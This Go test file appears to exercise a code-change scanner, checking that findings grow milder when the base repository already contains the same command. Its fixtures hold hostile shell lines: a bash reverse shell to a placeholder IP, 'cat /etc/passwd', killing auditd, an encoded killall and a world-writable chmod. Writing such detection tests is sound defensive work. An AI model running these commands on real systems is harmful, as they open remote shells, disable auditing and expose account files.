package static_test

import (
	"io/fs"
	"strings"
	"sync"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/change"
	"github.com/aigate/gate/gate/static"
)

// comparing is shared, because a scanner compiles what it needs as it goes.
var comparing = sync.OnceValues(func() (*static.Scanner, error) {
	return static.New(static.Options{Policy: corpusPolicy(), Classify: change.Classify})
})

// against scans a new file of a change against a base.
func against(t *testing.T, base fstest.MapFS, name, text string) []gate.Finding {
	t.Helper()
	target := &gate.Target{Path: name, Kind: gate.ChangeAdded, Mode: 0o644, Size: int64(len(text))}
	target.Language, target.Role = change.Classify(name, 0o644, []byte(text))
	c := &gate.Change{Head: fstest.MapFS{name: {Data: []byte(text)}}, Targets: []*gate.Target{target}}
	if base != nil {
		c.Base = base
	}
	s, err := comparing()
	if err != nil {
		t.Fatal(err)
	}
	found := gate.NewFindings(c.Targets, nil)
	if _, err := s.Run(t.Context(), c, found); err != nil {
		t.Fatal(err)
	}
	return found.Of(name)
}

func TestBehaviourOfTheBaseIsOneStepMilder(t *testing.T) {
	const workflow = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: killall worker\n"
	for name, tt := range map[string]struct {
		at, base   string // the base
		file, text string // the change
		rule       string
		want       gate.Severity
		because    string
	}{
		"the same command":     {"scripts/a.sh", "#!/bin/sh\nkillall worker\n", "b.sh", "killall worker\n", "process/shell-kill", gate.SeverityNote, "the base does this already: scripts/a.sh:2"},
		"another target":       {"scripts/a.sh", "#!/bin/sh\nkillall worker\n", "b.sh", "killall auditd\n", "process/shell-kill", gate.SeveritySuspicious, ""},
		"in tests of the base": {"tests/a.sh", "#!/bin/sh\nkillall worker\n", "b.sh", "killall worker\n", "process/shell-kill", gate.SeveritySuspicious, ""},
		"in its README":        {"README.md", "```sh\nkillall worker\n```\n", "b.sh", "killall worker\n", "process/shell-kill", gate.SeveritySuspicious, ""},
		"only in CI":           {".github/workflows/a.yml", workflow, "b.sh", "killall worker\n", "process/shell-kill", gate.SeveritySuspicious, ""},
		"beside what is known": {"scripts/a.sh", "#!/bin/sh\nkillall worker\n", "b.sh", "killall worker\nkillall auditd\n", "process/shell-kill", gate.SeveritySuspicious, ""},
		"a call":               {"a.py", "import os\nos.chmod('/etc/worker.conf', 0o777)\n", "b.py", "import os\n\nos.chmod(\"/etc/worker.conf\", 0o777)\n", "privilege/python-world-writable", gate.SeverityNote, "a.py:2"},
		"beside other lines that are put together": {"a.py", "import os\nos.chmod('/etc/worker.conf', 0o777)\n", "b.py", "import os\nx = 'a' + 'b'\nos.chmod('/etc/worker.conf', 0o777)\n", "privilege/python-world-writable", gate.SeverityNote, "a.py:2"},
		"what is put together":                     {"a.py", "import os\nos.chmod('/etc/worker.conf', 0o777)\n", "b.py", "import os\nos.chmod('/etc/wor' + 'ker.conf', 0o777)\n", "privilege/python-world-writable", gate.SeveritySuspicious, ""},
		"two on one line":                          {"scripts/a.sh", "#!/bin/sh\nkillall worker\n", "b.sh", "killall worker; killall auditd\n", "process/shell-kill", gate.SeveritySuspicious, ""},
		"in a call with more":                      {"scripts/a.sh", "#!/bin/sh\nkillall worker\n", "b.py", "import subprocess\nsubprocess.run(['killall', 'worker'], env={'PATH': '/srv/x'})\n", "process/shell-kill", gate.SeveritySuspicious, ""},
		"what is dangerous":                        {"scripts/a.sh", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n", "b.sh", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n", "reverse-shell/shell-device", gate.SeverityDangerous, ""},
		"what is encoded":                          {"scripts/a.sh", "killall -9 worker server client scheduler\n", "b.sh", "echo a2lsbGFsbCAtOSB3b3JrZXIgc2VydmVyIGNsaWVudCBzY2hlZHVsZXIK > x\n", "process/shell-kill", gate.SeveritySuspicious, ""},
		"what reads secrets":                       {"scripts/a.sh", "cat /etc/passwd\n", "b.sh", "cat /etc/passwd\n", "credentials/shell-account-file", gate.SeveritySuspicious, ""},
	} {
		t.Run(name, func(t *testing.T) {
			worst, message := gate.SeverityUnknown, ""
			for _, f := range against(t, fstest.MapFS{tt.at: {Data: []byte(tt.base), Mode: fs.FileMode(0o644)}}, tt.file, tt.text) {
				if f.Rule == tt.rule && f.Severity > worst {
					worst, message = f.Severity, f.Message
				}
			}
			if worst != tt.want || !strings.Contains(message, tt.because) || tt.because == "" && strings.Contains(message, "already") {
				t.Errorf("%s is %s (%q), want %s with %q", tt.rule, worst, message, tt.want, tt.because)
			}
		})
	}
}

func TestFindingsAreNotMilderWithoutABase(t *testing.T) {
	for _, f := range against(t, nil, "b.sh", "killall worker\n") {
		if f.Rule == "process/shell-kill" && f.Severity == gate.SeveritySuspicious {
			return
		}
	}
	t.Error("nothing suspicious was found")
}
